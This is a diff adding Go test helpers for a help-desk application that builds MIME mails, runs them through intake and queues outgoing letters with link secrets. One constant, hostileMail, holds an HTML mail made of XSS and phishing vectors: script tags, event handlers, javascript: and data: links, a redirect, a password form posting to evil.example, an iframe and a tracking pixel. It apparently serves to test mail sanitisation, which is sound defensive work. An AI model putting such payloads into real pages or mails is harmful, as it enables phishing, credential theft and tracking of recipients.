@@ -1,0 +1,177 @@
+package app
+
+import (
+	"bytes"
+	"encoding/base64"
+	"fmt"
+	"strings"
+	"time"
+
+	"context"
+
+	"sportello/app/desk"
+	"sportello/store"
+)
+
+// withMail gives the desk of a test two mailboxes, and a mail server of its own whose word on senders it believes.
+func withMail(c *Config) {
+	c.Mailboxes = []Mailbox{{Address: "csa@desk.example", Group: "csa", Module: "csa", Who: desk.WhoEverybody},
+		{Address: "vaglio@desk.example", Group: "csa", Who: desk.WhoHold}}
+	c.Mail.TrustedServers = []string{"mx.desk.example"}
+}
+
+// letter is a mail as somebody sends it to the desk.
+type letter struct {
+	from    string
+	to      string // csa@desk.example when empty
+	cc      string
+	subject string
+	id      string
+	answers string // Message-ID
+	text    string
+	html    string
+	header  string // further lines
+	proven  bool
+	picture []byte // shown by the HTML as cid:foto
+}
+
+var mailNumber int
+
+func (l letter) bytes() []byte {
+	var b bytes.Buffer
+	line := func(name, value string) {
+		if value != "" {
+			fmt.Fprintf(&b, "%s: %s\r\n", name, value)
+		}
+	}
+	if l.proven {
+		_, domain, _ := strings.Cut(strings.Trim(l.from, ">"), "@")
+		line("Authentication-Results", "mx.desk.example; dmarc=pass header.from="+domain)
+	}
+	if l.to == "" {
+		l.to = "csa@desk.example"
+	}
+	line("From", l.from)
+	line("To", l.to)
+	line("Cc", l.cc)
+	line("Subject", l.subject)
+	line("Date", time.Date(2026, 3, 2, 9, 30, 0, 0, time.UTC).Format(time.RFC1123Z))
+	line("Message-ID", "<"+l.id+">")
+	if l.answers != "" {
+		line("In-Reply-To", "<"+l.answers+">")
+	}
+	b.WriteString(l.header)
+	line("MIME-Version", "1.0")
+	text := "Content-Type: text/plain; charset=utf-8\r\n\r\n" + l.text + "\r\n"
+	html := "Content-Type: text/html; charset=utf-8\r\n\r\n" + l.html + "\r\n"
+	switch {
+	case l.html == "":
+		b.WriteString(text)
+	case l.picture == nil:
+		b.WriteString("Content-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\n" + text + "--b1\r\n" + html + "--b1--\r\n")
+	default:
+		b.WriteString("Content-Type: multipart/related; boundary=b1\r\n\r\n--b1\r\n" + html + "--b1\r\nContent-Type: image/png\r\nContent-ID: <foto>\r\n" +
+			"Content-Disposition: inline; filename=foto.png\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(l.picture) + "\r\n--b1--\r\n")
+	}
+	return b.Bytes()
+}
+
+// comes has the mail arrive and be processed, and returns what became of it.
+func (w *world) comes(l letter) *store.Mail {
+	w.t.Helper()
+	if l.id == "" {
+		mailNumber++
+		l.id = fmt.Sprintf("mail-%d@altrove.example", mailNumber)
+	}
+	d := w.app.desk
+	row, err := d.TakeMail(desk.MailFrom{Source: "lmtp"}, bytes.NewReader(l.bytes()))
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	if err := d.ProcessMail(context.Background()); err != nil {
+		w.t.Fatal(err)
+	}
+	err = w.app.st.View(func(tx *store.Tx) error {
+		row, err = store.Mails.Get(tx, row.ID)
+		return err
+	})
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	return row
+}
+
+const hostileMail = `<html><head><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
+<body onload="hacked=1"><p>Buongiorno, il <b>cedolino</b> non si apre.</p><script>hacked=1</script><img src="x" onerror="hacked=1"><a href="javascript:hacked=1">premi</a>
+<a href="data:text/html,<script>hacked=1</script>">dati</a><svg onload="hacked=1"><script>hacked=1</script></svg><form action="https://evil.example/"><input name="password"><button>Invia</button></form>
+<div style="position:fixed;inset:0">sopra</div><iframe src="https://evil.example/"></iframe><img src="cid:foto" alt="schermata"><img src="https://evil.example/spia.png" alt="fuori" width="1"></body></html>`
+
+// mailed has the requester write a mail with pictures, and returns the message it became.
+func (w *world) mailed() (number, message uint64) {
+	w.t.Helper()
+	w.now++
+	row := w.comes(letter{from: "Ada Neri <requester@example.it>", cc: "participant@example.it", proven: true, subject: fmt.Sprintf("Il cedolino non si apre (%d)", w.now),
+		html: hostileMail, picture: picture()})
+	if row.State != store.MailDone {
+		w.t.Fatalf("the mail is %s: %s %s", row.State, row.Why, row.Detail)
+	}
+	return row.Ticket, row.Message
+}
+
+// held has somebody write to the mailbox where all is held.
+func (w *world) held() uint64 {
+	w.t.Helper()
+	w.now++
+	row := w.comes(letter{from: "Sergio Sconosciuto <sconosciuto@altrove.example>", to: "vaglio@desk.example", subject: fmt.Sprintf("Posso scrivere? (%d)", w.now),
+		html: hostileMail, picture: picture()})
+	if row.State != store.MailHeld {
+		w.t.Fatalf("the mail is %s", row.State)
+	}
+	return row.ID
+}
+
+// letterTo plans a letter that tells the person of the ticket, in the state, without sending it.
+func (w *world) letterTo(person *store.Person, ticket uint64, state store.LetterState, why string) uint64 {
+	w.t.Helper()
+	w.now++
+	l := &store.Letter{State: state, Why: why, Person: person.ID, To: person.Email, Ticket: ticket, MessageID: fmt.Sprintf("lettera-%d@desk.example", w.now),
+		Tells: []store.Telling{{Event: "opened", At: time.Now()}}, Next: time.Now().Add(time.Hour)}
+	if state == store.LetterFailed || state == store.LetterBounced {
+		l.Tries, l.Error, l.Subject = 3, "550 5.1.1 no such user: "+person.Email, "[#1] Il cedolino"
+	}
+	if err := w.app.st.Update(store.By{Via: "desk", Act: "letter"}, func(tx *store.Tx) error { c := *l; err := store.Letters.Put(tx, &c); l.ID = c.ID; return err }); err != nil {
+		w.t.Fatal(err)
+	}
+	return l.ID
+}
+
+// linked sends the requester a letter about the ticket and returns the secret of the link that it carries.
+func (w *world) linked(person *store.Person, ticket uint64) string {
+	w.t.Helper()
+	id := w.letterTo(person, ticket, store.LetterQueued, "")
+	err := w.app.st.Update(store.By{Via: "desk", Act: "letter"}, func(tx *store.Tx) error {
+		l, err := store.Letters.Get(tx, id)
+		if err != nil {
+			return err
+		}
+		l.Next = tx.Now().Add(-time.Minute)
+		return store.Letters.Put(tx, l)
+	})
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	secret := ""
+	_, err = w.app.desk.SendLetters(context.Background(), func(_ context.Context, o *desk.Outgoing) desk.Sent {
+		if o.Letter.ID == id {
+			secret = o.Link
+		}
+		return desk.Sent{OK: true, Subject: "[#1] prova"}
+	})
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	if secret == "" {
+		w.t.Fatal("the letter carries no link")
+	}
+	return secret
+}
